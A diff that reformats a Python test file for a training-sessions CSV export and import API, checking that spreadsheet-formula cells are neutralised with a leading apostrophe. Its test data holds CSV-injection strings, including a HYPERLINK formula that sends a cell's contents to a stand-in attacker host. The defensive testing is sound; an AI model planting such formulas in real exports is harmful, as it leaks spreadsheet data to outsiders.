@@ -19,11 +19,28 @@ from tests.seasons import Seasons, build
 from trainingops.sessions.bulk import EXPORT_COLUMNS
 
 # Cells athletes and coaches write that a spreadsheet would otherwise run (OWASP, "CSV Injection").
-HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+1", "-5 reps, then 3", "@SUM(A1:A9)",
-           "\tTab first", "\rReturn first", "'=already quoted", "'plain apostrophe", "normal, with comma\nand a line"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "+1+1",
+    "-5 reps, then 3",
+    "@SUM(A1:A9)",
+    "\tTab first",
+    "\rReturn first",
+    "'=already quoted",
+    "'plain apostrophe",
+    "normal, with comma\nand a line",
+]
 # Columns the server derives or that name where a row came from: not compared.
-SERVER_OWN = {"id", "external_id", "import_batch_id", "created_at", "updated_at", "practice_session_id",
-              "practice_session_workout_id", "workout_id"}  # fmt: skip
+SERVER_OWN = {
+    "id",
+    "external_id",
+    "import_batch_id",
+    "created_at",
+    "updated_at",
+    "practice_session_id",
+    "practice_session_workout_id",
+    "workout_id",
+}
 
 
 @pytest.fixture
@@ -34,26 +51,44 @@ def seasons(api: Api) -> Seasons:
             day = w.today + timedelta(days=i - 4)
             done = datetime.combine(day, time(17, 45), UTC) if day < w.today else None
             factories.session(
-                conn, w.ids["ana"], source="coach_assigned", coach_member_id=w.ids["cp"],
-                team_season_id=w.ids["p_current"] if i % 3 else None, scheduled_date=day, completed_at=done,
-                workout_category="run" if i % 2 else "gym", title=text, planned_description=HOSTILE[-1 - i],
-                planned_distance_m=1000 * i or None, planned_duration_sec=1800 + i, planned_rpe=1 + i,
-                actual_distance_m=1100 * i if done else None, actual_rpe=2 + i if done else None,
+                conn,
+                w.ids["ana"],
+                source="coach_assigned",
+                coach_member_id=w.ids["cp"],
+                team_season_id=w.ids["p_current"] if i % 3 else None,
+                scheduled_date=day,
+                completed_at=done,
+                workout_category="run" if i % 2 else "gym",
+                title=text,
+                planned_description=HOSTILE[-1 - i],
+                planned_distance_m=1000 * i or None,
+                planned_duration_sec=1800 + i,
+                planned_rpe=1 + i,
+                actual_distance_m=1100 * i if done else None,
+                actual_rpe=2 + i if done else None,
                 actual_description=text if done else None,
                 metrics_json=json.dumps({"note": text, "splits": [{"km": 1, "sec": 240 + i}]}) if done else None,
-            )  # fmt: skip
+            )
         factories.session(conn, w.ids["ana"], scheduled_date=w.today - timedelta(days=2), title="=my own run")
         gone = factories.member(conn, w.ids["p"], factories.user(conn, "Former coach"), "assistant_coach", active=False)
         w.ids["cx"] = gone
-        factories.session(conn, w.ids["ana"], source="coach_assigned", coach_member_id=gone,
-                          scheduled_date=w.today - timedelta(days=30), title="From a coach who has left")  # fmt: skip
+        factories.session(
+            conn,
+            w.ids["ana"],
+            source="coach_assigned",
+            coach_member_id=gone,
+            scheduled_date=w.today - timedelta(days=30),
+            title="From a coach who has left",
+        )
         conn.commit()
     return w
 
 
 def call(api: Api, user_id: UUID, method: str, path: str, **kwargs: Any) -> Any:
-    headers = {"Authorization": f"Bearer {api.tokens.issue(user_id, ttl=timedelta(hours=1))}",
-               **kwargs.pop("headers", {})}  # fmt: skip
+    headers = {
+        "Authorization": f"Bearer {api.tokens.issue(user_id, ttl=timedelta(hours=1))}",
+        **kwargs.pop("headers", {}),
+    }
     return api.client.request(method, path, headers=headers, **kwargs)
 
 
@@ -64,8 +99,9 @@ def export(api: Api, user_id: UUID, athlete: UUID, source: str) -> str:
 
 
 def import_csv(api: Api, user_id: UUID, text: str) -> dict[str, Any]:
-    response = call(api, user_id, "POST", "/api/v1/sessions:import", content=text.encode(),
-                    headers={"Content-Type": "text/csv"})  # fmt: skip
+    response = call(
+        api, user_id, "POST", "/api/v1/sessions:import", content=text.encode(), headers={"Content-Type": "text/csv"}
+    )
     assert response.status_code in (200, 201), response.text
     report: dict[str, Any] = response.json()
     return report
@@ -92,13 +128,20 @@ def test_an_export_imports_into_a_fresh_program_and_exports_the_same(api: Api, s
     first = export(api, w.users["CP"], w.ids["ana"], "coach_assigned")
     assert list(rows(first)[0]) == list(EXPORT_COLUMNS)
     # neutralised for spreadsheets: every hostile cell starts with an apostrophe; numbers stay numbers
-    expected = ["'" + t for t in HOSTILE[:6]] + ["''=already quoted", "'plain apostrophe", HOSTILE[8],
-                                                 "From a coach who has left"]  # fmt: skip
+    expected = ["'" + t for t in HOSTILE[:6]] + [
+        "''=already quoted",
+        "'plain apostrophe",
+        HOSTILE[8],
+        "From a coach who has left",
+    ]
     assert sorted(r["title"] for r in rows(first)) == sorted(expected)
     numbers = ("planned_distance_m", "planned_duration_sec", "planned_rpe", "actual_distance_m", "actual_rpe")
     assert all(r[c].isdigit() for r in rows(first) for c in numbers if r[c])
-    mapping = {str(w.ids["p_current"]): str(w.ids["q_current"]), str(w.ids["cp"]): str(w.ids["cq"]),
-               str(w.ids["cx"]): str(w.ids["cq"])}  # fmt: skip
+    mapping = {
+        str(w.ids["p_current"]): str(w.ids["q_current"]),
+        str(w.ids["cp"]): str(w.ids["cq"]),
+        str(w.ids["cx"]): str(w.ids["cq"]),
+    }
     report = import_csv(api, w.users["CQ"], remap(first, mapping))
     assert (report["created"], report["duplicates"]) == (len(HOSTILE) + 1, 0)
     second = export(api, w.users["CQ"], w.ids["ana"], "coach_assigned")
@@ -110,9 +153,12 @@ def test_an_export_imports_into_a_fresh_program_and_exports_the_same(api: Api, s
     assert sorted(c["external_id"] for c in copies) == sorted(originals)
     for copy in copies:
         original = originals[copy["external_id"]]
-        copy.update(team_season_id=back.get(copy["team_season_id"], copy["team_season_id"]),
-                    coach_member_id=back[copy["coach_member_id"]] if copy["title"] != "From a coach who has left"
-                    else str(w.ids["cx"]))  # fmt: skip
+        copy.update(
+            team_season_id=back.get(copy["team_season_id"], copy["team_season_id"]),
+            coach_member_id=back[copy["coach_member_id"]]
+            if copy["title"] != "From a coach who has left"
+            else str(w.ids["cx"]),
+        )
         assert {c: copy[c] for c in compared} == {c: original[c] for c in compared}
         assert copy["import_batch_id"] == report["batch_id"]
     # Importing either file again where it already is adds nothing: each row finds its session.
@@ -160,8 +206,14 @@ def test_a_pathological_metrics_cell_is_a_row_error(api: Api, seasons: Seasons, 
         writer = csv.writer(out)
         writer.writerow(("athlete_id", "team_season_id", "scheduled_date", "workout_category", "metrics_json"))
         writer.writerow((w.ids["ana"], w.ids["p_current"], w.today, "run", metrics))
-        return call(api, w.users["CP"], "POST", "/api/v1/sessions:import", content=out.getvalue().encode(),
-                    headers={"Content-Type": "text/csv"})  # fmt: skip
+        return call(
+            api,
+            w.users["CP"],
+            "POST",
+            "/api/v1/sessions:import",
+            content=out.getvalue().encode(),
+            headers={"Content-Type": "text/csv"},
+        )
 
     response = post(cell)
     assert response.status_code == 422
